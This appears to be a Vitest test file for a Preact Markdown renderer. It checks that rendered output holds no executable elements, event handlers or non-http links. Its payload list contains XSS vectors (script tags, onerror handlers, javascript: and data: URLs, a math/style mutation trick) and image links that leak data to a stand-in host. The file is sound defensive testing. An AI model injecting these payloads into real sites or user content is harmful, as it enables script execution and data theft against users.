// @vitest-environment happy-dom
import { cleanup, fireEvent } from '@testing-library/preact'
import { afterEach, describe, expect, it } from 'vitest'
import { renderUi } from '../test-i18n'
import { Markdown } from './Markdown'

afterEach(cleanup)

const FORBIDDEN = 'script, iframe, frame, object, embed, svg, math, style, link, meta, base, form, img, video, audio, source'

/** Nothing in `root` can run code or fetch anything by itself. */
function expectInert(root: Element) {
  expect(root.querySelectorAll(FORBIDDEN)).toHaveLength(0)
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames()) {
      expect(attr.startsWith('on'), `${el.tagName} has ${attr}`).toBe(false)
      expect(['style', 'srcset', 'formaction', 'xlink:href', 'src']).not.toContain(attr)
    }
    if (el.tagName === 'A') expect(el.getAttribute('href') ?? '').toMatch(/^https?:\/\//)
    if (el.tagName === 'INPUT') expect(el.getAttribute('type')).toBe('checkbox')
  }
}

const render = (text: string) => renderUi(<Markdown text={text} streaming={false} />).container

const PAYLOADS = [
  '<script>alert(1)</script>',
  'inline <script>alert(1)</script> tag',
  '<img src=x onerror=alert(1)>',
  'text <img src="https://evil.example/x.png"> more',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<a href="javascript:alert(1)">click</a>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1)  )',
  '[x](java&#x09;script:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](/relative/path)',
  '<javascript:alert(1)>',
  '[ref][r]\n\n[r]: javascript:alert(1)',
  '[ref][r]\n[r]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](https://evil.example/leak?q=secret)',
  '![x][img]\n[img]: https://evil.example/leak.png',
  '[![x](https://evil.example/a.png)](https://example.com)',
  '<https://example.com/ok> and www.example.com and mail@example.com',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '- [x] <script>alert(1)</script>',
  '> <iframe src=//evil.example></iframe>',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<!-- comment --><a href=x>y</a>',
]

describe('Markdown is safe by construction (threats T1, T3)', () => {
  it.each(PAYLOADS)('renders %j inert', (payload) => {
    expectInert(render(payload))
  })

  it('shows raw HTML as its source text', () => {
    const root = render('<b onclick="x()">bold?</b>\n\n<script>alert(1)</script>')
    expect(root.textContent).toContain('<b onclick="x()">')
    expect(root.textContent).toContain('<script>alert(1)</script>')
    expect(root.querySelector('b')).toBeNull()
  })

  it('renders non-http(s) links as plain text, keeping their words', () => {
    const root = render('[click me](javascript:alert(1)) [mail](mailto:a@b.c)')
    expect(root.querySelector('a')).toBeNull()
    expect(root.textContent).toContain('click me')
    expect(root.textContent).toContain('mail')
  })

  it('makes http(s) links open in a new tab without opener or referrer', () => {
    const root = render('[docs](https://example.com/a?b=1) and <https://example.org>')
    const links = [...root.querySelectorAll('a')]
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1', 'https://example.org/'])
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank')
      expect(a.getAttribute('rel')).toBe('noopener noreferrer')
      expect(a.getAttribute('referrerpolicy')).toBe('no-referrer')
      expect(a.getAttribute('title')).toContain(a.getAttribute('href'))
    }
  })

  it('does not load an image until it is clicked, and names its host', () => {
    const root = render('![a chart](https://img.example.net/chart.png)')
    expect(root.querySelector('img')).toBeNull()
    const button = root.querySelector<HTMLButtonElement>('[data-testid="image-placeholder"]')
    expect(button?.textContent).toContain('img.example.net')
    expect(button?.textContent).toContain('a chart')
    fireEvent.click(button!)
    const img = root.querySelector('img')
    expect(img?.getAttribute('src')).toBe('https://img.example.net/chart.png')
    expect(img?.getAttribute('referrerpolicy')).toBe('no-referrer')
  })

  it('offers a link when a clicked image fails to load (e.g. blocked by CSP)', () => {
    const root = render('![x](https://img.example.net/x.png)')
    fireEvent.click(root.querySelector('[data-testid="image-placeholder"]')!)
    fireEvent.error(root.querySelector('img')!)
    expect(root.querySelector('img')).toBeNull()
    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://img.example.net/x.png')
  })

  it('never offers to load non-http(s) images', () => {
    const root = render('![pic](data:image/png;base64,AAAA) ![js](javascript:alert(1))')
    expect(root.querySelector('button')).toBeNull()
    expect(root.textContent).toContain('[image: pic]')
  })

  it('survives absurd nesting without a stack overflow', () => {
    expectInert(render('>'.repeat(5000) + ' deep'))
    expectInert(render('['.repeat(10000) + 'x' + ']'.repeat(10000)))
    expectInert(render('*'.repeat(20000) + 'a'))
  })
})
